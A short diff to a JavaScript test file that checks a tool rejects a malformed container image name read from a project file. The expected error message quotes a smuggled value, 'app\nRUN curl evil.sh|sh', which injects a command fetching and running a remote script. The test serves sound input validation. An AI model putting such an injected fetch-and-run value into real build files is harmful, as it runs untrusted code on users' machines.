@@ -100,7 +100,7 @@ describe('image names from files', () => {
 		expect(exitCode).toBe(2);
 		expect(stdout).toBe('');
 		expect(oneLine(stderr)).toHaveLength(1);
-		expect(stderr).toMatch(/hostile\.json "image": "app\\nRUN curl evil\.sh\|sh" is not an image reference/);
+		expect(stderr).toMatch(/hostile\.json:? "image":? "app\\nRUN curl evil\.sh\|sh" is not an image reference/);
 	});
 
 	it('refuses a ContainerRepository that is no repository name, naming the project file, unless --image names the image', async () => {
